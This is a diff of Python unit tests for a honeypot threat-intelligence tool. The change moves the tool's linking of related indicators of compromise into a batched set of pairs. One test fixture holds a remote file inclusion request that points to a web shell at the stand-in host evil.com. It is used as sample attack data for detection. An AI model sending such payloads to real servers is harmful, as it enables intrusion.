@@ -399,8 +399,7 @@ class TestTannerRfiExtraction(ExtractionTestCase):
         hits = [{"src_ip": "1.2.3.4", "url": "/page?file=include http://evil.com/shell.php"}]
         self.strategy.extract_from_hits(hits)
 
-        scanner_record.related_ioc.add.assert_called_with(hostname_record)
-        hostname_record.related_ioc.add.assert_called_with(scanner_record)
+        self.mock_ioc_repo.link_related_iocs.assert_called_once_with({("1.2.3.4", "evil.com")})
 
     @patch("greedybear.cronjobs.extraction.strategies.tanner.iocs_from_hits")
     @patch("greedybear.cronjobs.extraction.strategies.tanner.TagRepository.add_tags")
@@ -590,40 +589,20 @@ class TestTannerAddFks(ExtractionTestCase):
             sensor_repo=self.mock_sensor_repo,
         )
 
-    def test_add_fks_both_exist(self):
-        scanner = self._create_mock_ioc("1.2.3.4")
-        hostname = self._create_mock_ioc("evil.com", ioc_type="domain")
-
-        self.mock_ioc_repo.get_ioc_by_name.side_effect = lambda name: {
-            "1.2.3.4": scanner,
-            "evil.com": hostname,
-        }.get(name)
-
+    def test_add_fks_queues_pair(self):
         self.strategy._add_fks("1.2.3.4", "evil.com")
 
-        scanner.related_ioc.add.assert_called_once_with(hostname)
-        hostname.related_ioc.add.assert_called_once_with(scanner)
-        self.assertEqual(self.mock_ioc_repo.save.call_count, 0)
-
-    def test_add_fks_scanner_none(self):
-        hostname = self._create_mock_ioc("evil.com", ioc_type="domain")
-        self.mock_ioc_repo.get_ioc_by_name.side_effect = lambda name: {
-            "evil.com": hostname,
-        }.get(name)
+        self.assertEqual(self.strategy.related_ioc_pairs, {("1.2.3.4", "evil.com")})
+        self.mock_ioc_repo.get_ioc_by_name.assert_not_called()
 
+    def test_link_related_iocs(self):
         self.strategy._add_fks("1.2.3.4", "evil.com")
-
-        hostname.related_ioc.add.assert_not_called()
-
-    def test_add_fks_hostname_none(self):
-        scanner = self._create_mock_ioc("1.2.3.4")
-        self.mock_ioc_repo.get_ioc_by_name.side_effect = lambda name: {
-            "1.2.3.4": scanner,
-        }.get(name)
-
         self.strategy._add_fks("1.2.3.4", "evil.com")
 
-        scanner.related_ioc.add.assert_not_called()
+        self.strategy._link_related_iocs()
+
+        self.mock_ioc_repo.link_related_iocs.assert_called_once_with({("1.2.3.4", "evil.com")})
+        self.assertEqual(self.strategy.related_ioc_pairs, set())
 
 
 class TestTannerAttackPatterns(ExtractionTestCase):